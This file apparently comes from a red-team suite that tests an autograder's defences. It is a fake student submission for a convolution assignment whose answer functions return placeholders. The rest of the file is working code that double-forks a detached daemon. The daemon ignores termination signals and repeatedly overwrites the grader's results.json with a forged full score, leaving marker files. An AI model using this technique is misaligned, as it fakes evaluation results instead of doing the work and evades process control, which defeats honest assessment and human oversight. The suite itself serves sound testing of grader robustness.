"""Red team 61_daemon_rewrites_results.

Attack: Answer nothing right, but double-fork a setsid daemon that ignores SIGTERM and SIGHUP,
closes its pipes, waits for the grader to finish and then keeps overwriting results.json
(Gradescope's /autograder/results and, relative to where it started, ../results) with full
marks, and leaving a marker beside it.

Deserves: the short answers only (8); results.json never changes; no process left.
"""

# --------------------------------------------------------------------------------------------
# The reference answers and functions (honest part of this file):
# <<the reference solution, solutions/a2.py, is inserted here by redteam_catalog>>

# --------------------------------------------------------------------------------------------
# The attack.
# --------------------------------------------------------------------------------------------
import json as _json
import os as _os
import signal as _signal
import time as _time

_FULL = _json.dumps({"score": 12, "tests": [
    {"name": name, "score": 2, "max_score": 2} for name in ("q1_ii", "q1_iv")]})
_TARGETS = [_os.path.abspath(path) for path in (
    "/autograder/results/results.json", "../results/results.json", "results/results.json")]


def _daemon():
    _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
    _signal.signal(_signal.SIGHUP, _signal.SIG_IGN)
    _os.closerange(0, 256)
    deadline = _time.time() + 20
    while _time.time() < deadline:
        _time.sleep(0.25)
        for path in _TARGETS:
            for target, text in ((path, _FULL), (path + "-A2-REDTEAM-MARKER-daemon", "x")):
                try:
                    with open(target, "w") as handle:
                        handle.write(text)
                except OSError:
                    pass


if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _daemon()
    _os._exit(0)


def receptive_field(layers):
    return -1


def transposed_conv2d(x, kernel, stride=1, padding=0, dilation=1):
    return [[-1]]
